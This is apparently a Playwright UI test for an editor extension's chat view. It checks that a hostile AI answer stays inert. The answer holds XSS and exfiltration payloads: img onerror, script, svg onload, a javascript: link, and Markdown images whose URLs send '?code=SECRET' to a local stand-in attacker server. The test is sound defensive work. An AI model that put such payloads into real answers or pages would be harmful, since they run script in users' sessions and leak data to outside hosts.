// An answer carrying raw HTML with event handlers, Markdown images (inline and reference-style) and a
// javascript: link, all aimed at a loopback "attacker" server: nothing runs, nothing is fetched, the
// images show as placeholders with their URL. A real link opens only after a confirmation showing it.
import { createServer } from 'node:http';
import { type AddressInfo } from 'node:net';
import { screenshot } from '../../workbench';
import { check, type UiContext } from '../context';
import { chatFrame, openChat, reply, send } from './chatView';

export async function chatHostileAnswerIsInert(ctx: UiContext): Promise<void> {
  const { page, standIn } = ctx;
  const hits: string[] = [];
  const attacker = createServer((req, res) => {
    hits.push(req.url ?? '');
    res.writeHead(200, { 'content-type': 'image/png' });
    res.end();
  });
  await new Promise<void>((done) => attacker.listen(0, '127.0.0.1', done));
  const url = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
  const mark = (how: string): string => `document.body.setAttribute('data-pwned','${how}')`;
  const answer = [
    'Here is the diagram you asked for.',
    `<img src="${url}/raw.png?code=SECRET" onerror="${mark('img')}">`,
    `![diagram](${url}/markdown.png?code=SECRET)`,
    '![reference][leak]',
    `<script>${mark('script')}</script>`,
    `<svg onload="${mark('svg')}"></svg>`,
    `[click me](javascript:${mark('link')})`,
    'Docs: [the guide](https://example.com/guide?page=2)',
    '',
    `[leak]: ${url}/reference.png?code=SECRET`,
  ].join('\n\n');
  try {
    await openChat(page);
    const index = await chatFrame(page).locator('article.pg-turn').count();
    standIn.enqueue('/responses', { kind: 'text', text: answer });
    await send(ctx, 'Draw the order flow');
    const shown = await reply(page, index);
    const frame = chatFrame(page);
    // The answer is fully rendered once both image placeholders are there; anything that could load
    // or run would have been put in the page by then.
    await frame.locator('.pg-image-placeholder').nth(1).waitFor({ state: 'visible', timeout: 10_000 });
    await screenshot(page, 'chat-hostile-answer');
    ctx.figures.hostilePayloads += 6; // raw <img onerror>, inline and reference Markdown images, <script>, <svg onload>, javascript: link
    ctx.figures.remoteFetches += hits.length;
    ctx.figures.scriptsRun += (await frame.locator('body[data-pwned]').count()) > 0 ? 1 : 0;
    check(hits.length === 0, `the attacker server received ${hits.length} request(s): ${hits.join(', ')}`);
    check((await frame.locator('body[data-pwned]').count()) === 0, `a payload ran: ${await frame.locator('body').getAttribute('data-pwned')}`);
    const planted = await frame
      .locator('.pg-transcript')
      .locator('img, svg, script, iframe, picture, style')
      .evaluateAll((found) => found.map((e) => e.outerHTML.slice(0, 120)));
    check(planted.length === 0, `the answer put elements into the page: ${planted.join(' | ')}`);
    const text = await shown.innerText();
    check(text.includes('<img src='), `raw HTML is not shown as text: ${text}`);
    const placeholders = await frame.locator('.pg-image-placeholder').allInnerTexts();
    check(placeholders.length === 2, `expected 2 image placeholders, got ${placeholders.length}`);
    check(
      placeholders.some((p) => p.includes(`${url}/markdown.png?code=SECRET`)),
      `the placeholder does not show the image URL: ${placeholders.join(' | ')}`,
    );
    check((await shown.locator('a', { hasText: 'click me' }).count()) === 0, 'the javascript: link became a link');

    // A real link: the extension asks first, showing the whole URL; cancelling opens nothing.
    await shown.locator('a', { hasText: 'the guide' }).click();
    const dialog = page.locator('.monaco-dialog-box');
    await dialog.waitFor({ state: 'visible', timeout: 10_000 });
    const asked = await dialog.innerText();
    check(asked.includes('https://example.com/guide?page=2'), `the confirmation does not show the full URL: ${asked}`);
    await dialog.getByRole('button', { name: 'Cancel' }).click();
    await dialog.waitFor({ state: 'hidden', timeout: 5000 });
    check(page.context().pages().length === 1, 'a new page was opened');
    check(hits.length === 0, `the attacker server received ${hits.length} request(s) in the end`);
  } finally {
    await new Promise((done) => attacker.close(done));
  }
}
